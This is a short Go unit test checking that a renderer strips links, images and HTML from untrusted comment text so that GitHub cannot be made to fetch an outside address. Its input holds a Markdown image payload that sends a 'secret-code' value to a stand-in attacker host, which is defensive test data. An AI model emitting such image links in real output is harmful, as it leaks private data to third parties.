package render

import (
	"strings"
	"testing"
)

// Untrusted text in a comment cannot make GitHub fetch an address (an image carrying the
// change's text out) or forge markup.
func TestRenderedTextCannotLinkOrEmbed(t *testing.T) {
	got := Inline("see ![x](https://evil.example/?q=secret-code) and [click](https://evil.example) <img src=x> `a](b`")
	if strings.Contains(got, "](https") || strings.Contains(got, "<img") {
		t.Errorf("inline left a link, an image or HTML: %s", got)
	}
	if !strings.Contains(got, "`a](b`") {
		t.Errorf("a code span was changed: %s", got)
	}
	if got := code("a\nb"); got != "a b" {
		t.Errorf("code(%q) = %q", "a\nb", got)
	}
}
